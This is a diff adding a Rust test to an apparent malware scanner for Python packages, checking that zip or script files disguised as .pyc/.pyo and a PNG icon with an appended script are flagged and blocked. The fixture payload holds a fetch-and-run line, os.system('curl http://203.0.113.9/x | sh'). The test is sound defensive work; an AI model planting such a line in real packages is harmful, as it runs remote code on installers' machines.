@@ -1436,3 +1436,62 @@ fn zero_padded_native_libraries_are_read_whole_not_called_bombs() {
     assert!(paths(&r, "anomaly.archive-bomb").is_empty(), "{:#?}", r.findings);
     assert_ne!(verdict_for(&r).decision, crate::model::Decision::Block);
 }
+
+// ---- binary members that carry something else (`carrier`) ----
+
+/// A `.pyc` that is really a zip or a script, and an icon with a script after its end,
+/// are findings naming the member; real bytecode, a clean icon and the same payload
+/// under `tests/` are not blocked. The shipped policy blocks the package-level ones.
+#[test]
+fn disguised_bytecode_and_appended_payloads_are_found_and_blocked() {
+    let mut icon = super::carrier::tests::png();
+    let clean_icon = icon.clone();
+    icon.extend_from_slice(b"\nimport os\nos.system('curl http://203.0.113.9/x | sh')\n");
+    let script: &[u8] = b"import os\nos.system('id')\n";
+    let bytecode: &[u8] = &[0xcb, 0x0d, b'\r', b'\n', 0, 0, 0, 0, 0xe3, 0, 0, 0];
+    type Case<'a> = (&'a str, Vec<(&'a str, &'a [u8])>, &'a [(&'a str, &'a str)], bool);
+    let cases: Vec<Case> = vec![
+        (
+            "zip named .pyc",
+            vec![("demo/_core.pyc", b"PK\x03\x04\x14\x00rest")],
+            &[("obfuscation.disguised-bytecode", "demo/_core.pyc")],
+            true,
+        ),
+        (
+            "script named .pyo",
+            vec![("demo/boot.pyo", script)],
+            &[("obfuscation.disguised-bytecode", "demo/boot.pyo")],
+            true,
+        ),
+        (
+            "icon with a script after IEND",
+            vec![("demo/icon.png", &icon)],
+            &[("obfuscation.appended-payload", "demo/icon.png")],
+            true,
+        ),
+        (
+            "real bytecode and a clean icon",
+            vec![("demo/__pycache__/a.cpython-312.pyc", bytecode), ("demo/icon.png", &clean_icon)],
+            &[],
+            false,
+        ),
+    ];
+    let scanner = Scanner::new(Limits::default());
+    for (case, members, want, blocked) in cases {
+        let mut entries = members.clone();
+        let md = wheel_metadata("demo", "1.0");
+        entries.push(("demo-1.0.dist-info/METADATA", &md));
+        let r = scan_bytes(&scanner, "demo-1.0-py3-none-any.whl", &zip_of(&entries));
+        let got: Vec<(String, String)> =
+            located(&r).into_iter().filter(|(id, _)| id.starts_with("obfuscation.")).collect();
+        let want: Vec<(String, String)> = want.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
+        assert_eq!(got, want, "{case}");
+        let v = verdict_for(&r);
+        assert_eq!(v.decision == crate::model::Decision::Block, blocked, "{case}: {:?}", v.reasons);
+    }
+    // The same zip under tests/ of an sdist: reported, medium, not blocked by that rule.
+    let sdist = tar_gz_with_filler(&[], &[("demo-1.0/tests/data/fixture.pyc", b"PK\x03\x04\x14\x00rest")]);
+    let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &sdist);
+    let f = r.findings.iter().find(|f| f.detector == "obfuscation.disguised-bytecode").expect("finding");
+    assert_eq!(f.severity, Severity::Medium);
+}
